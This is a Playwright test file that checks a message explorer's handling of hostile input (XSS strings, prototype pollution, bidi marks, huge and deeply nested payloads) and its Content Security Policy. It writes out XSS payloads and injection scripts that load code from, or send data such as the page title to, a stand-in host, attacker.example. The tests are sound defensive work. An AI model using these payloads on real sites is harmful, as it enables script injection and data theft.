import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { type Opened, describeInBrowser, order, rowsOf, shows, until } from './opened.ts';

const tricks = [
  '<img src=x onerror="window.__broken=1">',
  '<script>window.__broken=1</script>',
  '"><svg onload=alert(1)>',
  "javascript:alert(1)//'`${alert(1)}",
  '{{constructor.constructor("window.__broken=1")()}}',
];

/** Nothing ran, nothing asked, nothing left. */
async function isUnharmed({ page, faults }: Opened): Promise<void> {
  assert.equal(await page.evaluate('typeof window.__broken'), 'undefined');
  assert.equal(await page.locator('#rows img, #rows script, #detail img, #detail script').count(), 0);
  assert.deepEqual(faults, []);
}

async function selectLast(page: Page): Promise<void> {
  await page.keyboard.press('Home');
  await rowsOf(page).last().click();
  await page.locator('#detail').waitFor();
}

describeInBrowser('hostile messages in the explorer', function ({ open }) {
  it('are text: names, values and types that look like HTML or scripts', async () => {
    const opened = await open();
    const { page, publish } = opened;
    const data = Object.fromEntries(tricks.map((trick) => [trick, trick]));
    const [trick = ''] = tricks;
    await publish(
      order({ data, subject: trick, correlationid: trick }),
      order({ type: trick, source: trick }),
      { topic: 'lab/<b onmouseover=alert(1)>bold', bytes: Buffer.from(tricks.join('')) },
    );
    await until(async () => (await rowsOf(page).count()) === 3, 'three rows');
    for (const index of [0, 1, 2]) {
      await rowsOf(page).nth(index).click();
      for (const tab of ['payload', 'envelope', 'thread', 'diff', 'schema'])
        await page.locator(`#d-tab-${tab}`).click();
      await page.locator('#d-tab-payload').click();
    }
    await page.locator('.raw', { hasText: '<script>window.__broken=1</script>' }).waitFor();
    await page.keyboard.press('3');
    await page.locator('.trow b', { hasText: '<img src=x' }).click();
    await page.locator('.w-title h2', { hasText: '<img src=x' }).waitFor();
    await isUnharmed(opened);
  });

  it('do not reach prototypes', async () => {
    const opened = await open();
    const { page, publish } = opened;
    const text = '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":1}';
    const { value } = order();
    const event = JSON.stringify(value).replace('"data":{}', `"data":${text}`);
    await publish({ topic: 'shop/order', bytes: Buffer.from(event) });
    await rowsOf(page).first().click();
    await shows(page.locator('.json .k'), '__proto__ | polluted | constructor | prototype | toString');
    assert.equal(await page.evaluate('({}).polluted'), undefined);
    await isUnharmed(opened);
  });

  it('show control and direction marks as their codes', async () => {
    const opened = await open();
    const { page, publish } = opened;
    await publish({ topic: 'lab/\u202egnp.exe', bytes: Buffer.from('a\u0007b\u202ec\u2066d') });
    await shows(rowsOf(page).locator('.c-topic'), 'lab/\\u202egnp.exe');
    await rowsOf(page).first().click();
    await shows(page.locator('.raw'), 'a\\u0007b\\u202ec\\u2066d');
    await isUnharmed(opened);
  });

  it('need not be UTF-8 or JSON', async () => {
    const opened = await open();
    const { page, publish } = opened;
    await publish(
      { topic: 'lab/bytes', bytes: Uint8Array.of(0xff, 0xfe, 0, 1, 0xc3, 0x28) },
      { topic: 'shop/order', bytes: Buffer.from('{"specversion":') },
      { topic: 'lab/empty', bytes: new Uint8Array() },
    );
    await until(async () => (await rowsOf(page).count()) === 3, 'three rows');
    await rowsOf(page).first().click();
    await page.locator('.label', { hasText: 'bytes that are no UTF-8' }).waitFor();
    await rowsOf(page).nth(1).click();
    await page.locator('.problem h3', { hasText: 'Malformed' }).waitFor();
    await isUnharmed(opened);
  });

  it('may have anything in each member of the envelope', async function () {
    this.timeout(60_000);
    const opened = await open();
    const { page, publish } = opened;
    const [trick = ''] = tricks;
    const values = [null, 7, [trick], { [trick]: trick, __proto__: null }, `${trick}${'x'.repeat(200_000)}`];
    const { value } = order();
    const names = [...Object.keys(value as object), 'correlationid', 'tags', 'replyto', 'seq', 'expirytime'];
    await publish(
      ...values.map((each) => order(Object.fromEntries(names.map((name) => [name, each])))),
      ...values.map((each) => order({ correlationid: each, tags: each, type: each })),
    );
    const count = values.length * 2;
    await until(async () => (await rowsOf(page).count()) === count, 'all rows');
    for (let index = 0; index < count; index++) {
      await rowsOf(page).nth(index).click();
      for (const tab of ['envelope', 'thread', 'payload']) await page.locator(`#d-tab-${tab}`).click();
      await page.locator('#detail .raw, #detail .json').first().waitFor({ state: 'attached' });
    }
    await isUnharmed(opened);
  });

  it('of ten megabytes are cut, and said to be', async () => {
    const opened = await open();
    const { page, publish } = opened;
    await publish({ topic: 'lab/big', bytes: Buffer.alloc(10_000_000, 'x') }, order());
    await until(async () => (await rowsOf(page).count()) === 2, 'both rows');
    await rowsOf(page).first().click();
    await page.locator('.label', { hasText: 'the first 65.5 kB of 10.0 MB' }).waitFor();
    await selectLast(page);
    await shows(page.locator('.row.sel .c-topic'), 'shop/order');
    await isUnharmed(opened);
  });

  it('nested deeper than any stack freeze nothing', async () => {
    const opened = await open();
    const { page, publish } = opened;
    const depth = 20_000;
    const { value } = order();
    const nested = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const wide = JSON.stringify(
      Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`k${String(index)}`, index])),
    );
    const withData = (data: string) =>
      Buffer.from(JSON.stringify(value).replace('"data":{}', `"data":${data}`));
    await publish(
      { topic: 'shop/order', bytes: withData(nested) },
      { topic: 'shop/order', bytes: withData(wide) },
      { topic: 'shop/order', bytes: withData('['.repeat(500) + ']'.repeat(500)) },
    );
    await until(async () => (await rowsOf(page).count()) === 3, 'three rows');
    await rowsOf(page).first().click();
    await page.locator('#detail .raw, #detail .json').first().waitFor();
    await rowsOf(page).nth(1).click();
    await page.locator('.json', { hasText: 'more than 2,000 lines' }).waitFor();
    await rowsOf(page).nth(2).click();
    await shows(page.locator('.json li').first(), '0: [ 1 ]');
    await isUnharmed(opened);
  });
});

describeInBrowser("the policy of the explorer's page", function ({ open }) {
  /** Runs in the page what an injection would, and gives the directives that stopped it. */
  async function attempt(page: Page, script: string): Promise<readonly string[]> {
    const attack = `new Promise((resolve) => {
      const stopped = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        stopped.push(event.effectiveDirective);
        resolve(stopped);
      });
      setTimeout(() => resolve(stopped), 3000);
      try { ${script} } catch (error) { stopped.push(error.name); }
    })`;
    return await page.evaluate(attack);
  }

  const attacks: readonly (readonly [string, string, RegExp])[] = [
    [
      'a script made by hand',
      "const s = document.createElement('script'); s.src = 'https://attacker.example/x.js'; document.body.append(s)",
      /script-src|TypeError|require-trusted-types-for/,
    ],
    ['a script in HTML', "document.body.innerHTML = '<script>window.__broken = 1</script>'", /trusted-types/],
    ['eval', "setTimeout('window.__broken = 1', 0)", /script-src|trusted-types/],
    [
      'an inline handler',
      "const b = document.createElement('button'); b.setAttribute('onclick', 'window.__broken = 1'); document.body.append(b); b.click()",
      /script-src|trusted-types/,
    ],
    [
      'a style attribute',
      "const d = document.createElement('div'); d.setAttribute('style', 'color: red'); document.body.append(d)",
      /style-src/,
    ],
    [
      'a picture from elsewhere',
      "const i = new Image(); i.src = 'https://attacker.example/leak.png?' + document.title; document.body.append(i)",
      /img-src/,
    ],
    ['a request to elsewhere', "fetch('https://attacker.example/leak')", /connect-src/],
    ['a socket to elsewhere', "new WebSocket('wss://attacker.example/leak')", /connect-src/],
    [
      'a frame',
      "const f = document.createElement('iframe'); f.src = 'https://attacker.example/'; document.body.append(f)",
      /frame-src/,
    ],
    [
      'a form',
      "const f = document.createElement('form'); f.action = 'https://attacker.example/'; document.body.append(f); f.submit()",
      /form-action/,
    ],
    [
      'another base',
      "const b = document.createElement('base'); b.href = 'https://attacker.example/'; document.head.append(b)",
      /base-uri/,
    ],
  ];

  it('stops whatever an injection could try', async () => {
    const { page, faults } = await open();
    for (const [name, script, directive] of attacks) {
      const stopped = await attempt(page, script);
      assert.match(stopped.join(' '), directive, name);
    }
    assert.equal(await page.evaluate('typeof window.__broken'), 'undefined');
    assert.deepEqual(
      faults.filter((fault) => fault.startsWith('dialog')),
      [],
    );
  });
});
